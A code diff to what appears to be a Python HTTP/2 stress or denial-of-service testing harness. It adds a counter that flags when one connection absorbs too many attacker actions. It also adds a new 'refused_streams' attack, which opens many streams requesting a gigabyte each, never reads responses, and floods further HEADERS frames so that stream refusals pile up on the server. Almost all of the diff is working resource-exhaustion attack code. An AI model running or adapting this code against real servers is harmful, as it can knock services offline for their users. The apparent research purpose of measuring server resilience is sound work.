@@ -56,6 +56,7 @@ class Client:
         self.connection = connection
         self.pusher = Pusher(connection)
         self.stream = 1
+        self.acts = 0
 
     def next_streams(self, count):
         streams = range(self.stream, self.stream + 2 * count, 2)
@@ -63,8 +64,11 @@ class Client:
         return streams
 
 
-def attack(target, count, act, settings=b"", reads=True):
-    """Calls `act(client)` for the next bytes of each of `count` connections. Replaces closed connections."""
+def attack(target, count, act, settings=b"", reads=True, most=None):
+    """Calls `act(client)` for the next bytes of each of `count` connections. Replaces closed connections.
+
+    A connection that takes the bytes of more than `most` acts is a gain.
+    """
     clients = []
     while not target.is_over:
         if len(clients) < count:
@@ -76,7 +80,11 @@ def attack(target, count, act, settings=b"", reads=True):
         for client in clients:
             try:
                 if not client.pusher.pending:
-                    target.did(client.pusher.push(act(client)))
+                    begun = client.pusher.push(act(client))
+                    client.acts += begun
+                    target.did(begun)
+                    if most and client.acts > most:
+                        target.gained(f"a connection took the bytes of more than {most} acts")
                 else:
                     client.pusher.push(b"")
                 if reads:
@@ -230,3 +238,20 @@ def drips(target, count):
         return b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in range(1, 2 * STREAMS, 2))
 
     attack(target, count, act, struct.pack(">HI", INITIAL_WINDOW, 0))
+
+
+def refused_streams(target, count):
+    """Begins as many streams as possible without reading, and then more: each refusal has to wait."""
+
+    def act(client):
+        if client.stream == 1:
+            streams = client.next_streams(126)
+            window = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x3FFFFFFF))
+            return window + b"".join(get(stream, b"/bytes/1073741824") for stream in streams)
+        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, SMALL) for stream in client.next_streams(1000))
+
+    attack(target, count, act, struct.pack(">HI", INITIAL_WINDOW, (1 << 31) - 1), reads=False, most=200)
+
+
+# GET https://a/ in references to the static table.
+SMALL = bytes([0x82, 0x84, 0x87, 0x41, 1]) + b"a"
